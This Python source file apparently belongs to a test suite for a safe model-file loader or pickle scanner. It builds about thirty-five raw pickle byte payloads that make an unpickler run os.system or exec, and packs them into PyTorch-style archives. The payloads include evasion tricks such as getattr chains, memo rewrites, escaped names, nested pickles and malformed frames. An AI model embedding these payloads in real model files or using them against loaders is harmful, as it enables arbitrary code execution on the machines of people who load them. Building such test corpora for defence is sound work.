"""Ways to make an unpickler call something, by the opcodes that do it."""

import pickle
import struct

from malicious.base import REFUSES, Attack, archive, beside, call, text


class _Call:
    def __init__(self, function, *arguments):
        self.reduced = function, arguments

    def __reduce__(self):
        return self.reduced


def _in_archive(expression, protocol=b"\x80\x02"):
    index = beside(expression, protocol)
    # Alone, without tensors: what Python's unpickler can load.
    return Attack(archive(index), REFUSES, protocol + expression + b".")


def attacks(shell, code):
    """Return name -> attack, given the payload as a shell command and as Python code, both pushed by opcodes."""
    run = call("builtins", "exec", code)
    nested = pickle.dumps(_Call(exec, code[5:].decode()))
    binary = b"B" + struct.pack("<I", len(nested)) + nested
    ways = {
        "GLOBAL": call("os", "system", shell),
        "GLOBAL of the platform's module": call("posix", "system", shell),
        "STACK_GLOBAL": text("os") + text("system") + b"\x93(" + shell + b"tR",
        "INST": b"(" + shell + b"ios\nsystem\n",
        "OBJ": b"(cbuiltins\nexec\n" + code + b"o",
        "NEWOBJ": b"cbuiltins\nbytes\n(cbuiltins\nmap\n(cbuiltins\nexec\n(" + code + b"lt\x81t\x81",
        "NEWOBJ_EX": b"cbuiltins\nbytes\n(cbuiltins\nmap\n(cbuiltins\nexec\n(" + code + b"lt}\x92t}\x92",
        "BUILD": b"ctypes\nSimpleNamespace\n)R}" + text("a") + run + b"sb",
        "BUILD with slots": b"ctypes\nSimpleNamespace\n)R(}}" + text("a") + run + b"stb",
        "BUILD that makes __setstate__ a call": b"ctypes\nSimpleNamespace\n)R}"
        + text("__setstate__")
        + b"cos\nsystem\nsb"
        + shell
        + b"b",
        "nested pickle": b"cpickle\nloads\n(" + binary + b"tR",
        "nested pickle by another name": b"c_pickle\nloads\n(" + binary + b"tR",
        "dotted name": b"\x8c\x08builtins\x8c\x0dexec.__call__\x93(" + code + b"tR",
        "getattr chain": b"cbuiltins\ngetattr\n(cos\nsystem\n" + text("__call__") + b"tR(" + shell + b"tR",
        "getattr of an imported module": b"cbuiltins\ngetattr\n("
        + call("importlib", "import_module", text("os"))
        + text("system")
        + b"tR("
        + shell
        + b"tR",
        "name resolved by pkgutil": call("pkgutil", "resolve_name", text("os:system")) + b"(" + shell + b"tR",
        "module located by pydoc and method called": call("operator", "methodcaller", text("system"), shell)
        + b"("
        + call("pydoc", "locate", text("os"))
        + b"tR",
        "attribute fetched by operator": call("operator", "attrgetter", text("system"))
        + b"("
        + call("importlib", "import_module", text("os"))
        + b"tR("
        + shell
        + b"tR",
        "functools.partial chain": call("functools", "partial", b"cos\nsystem\n", shell) + b")R",
        "result popped": run + b"0N",
        "result popped to a mark": b"(" + run + b"1N",
        "memo written by PUT and MEMOIZE": text("os")
        + b"q\xc80"
        + text("system")
        + b"q\xc90"
        + text("torch._utils")
        + b"\x940"
        + text("_rebuild_tensor_v2")
        + b"\x940h\xc8h\xc9\x93("
        + shell
        + b"tR",
        "memo overwritten": text("collections")
        + b"q\xc80"
        + text("os")
        + b"q\xc80h\xc8"
        + text("system")
        + b"\x93("
        + shell
        + b"tR",
        "name padded with literals": text("os")
        + b"q\xc80"
        + text("system")
        + b"q\xc90"
        + 6 * (text("x") + b"0")
        + b"h\xc8h\xc9\x93("
        + shell
        + b"tR",
        "escaped name": b"Vo\\u0073\nV\\u0073ystem\n\x93(" + shell + b"tR",
        "binary string name": b"U\x02osU\x06system\x93(" + shell + b"tR",
        "duplicated before the call": b"cos\nsystem\n20(" + shell + b"tR",
        "frame of a wrong length": b"\x95\x01" + bytes(7) + run,
        "second PROTO inside": b"\x80\x05" + run,
    }
    found = {name: _in_archive(expression, b"\x80\x04") for name, expression in ways.items()}
    refused = {
        "persistent id that calls": b"(" + text("storage") + run + text("0") + text("cpu") + b"K\x04tQ",
        "persistent id of protocol 0": b"Pos.system\n",
        "EXT1": b"\x82\x01(" + shell + b"tR",
        "EXT2": b"\x83\x01\x00(" + shell + b"tR",
        "EXT4": b"\x84\x01\x00\x00\x00(" + shell + b"tR",
        "octal escape in a string": b"S'o\\163'\nS'\\163ystem'\n\x93(" + shell + b"tR",
        "buffer outside the pickle": b"\x97",
    }
    return found | {
        name: Attack(archive(beside(expression, b"\x80\x04")), REFUSES) for name, expression in refused.items()
    }
